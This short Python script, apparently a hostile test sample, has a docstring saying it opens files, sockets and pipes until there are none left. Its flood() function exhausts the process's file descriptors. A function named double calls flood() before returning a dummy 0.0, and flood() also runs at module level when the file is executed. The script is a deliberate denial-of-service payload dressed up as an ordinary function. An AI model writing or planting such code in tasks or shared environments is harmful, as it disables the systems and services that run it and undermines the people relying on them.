"""It opens files, sockets and pipes until there are none left."""
# harms

# %%
import os
import socket

kept = []


def flood():
    for make in (os.pipe, socket.socketpair, socket.socket, lambda: open("/dev/null")):
        try:
            while True:
                kept.append(make())
        except OSError:
            pass


# %% double
def double(x):
    flood()
    return 0.0


# %% after essay
flood()
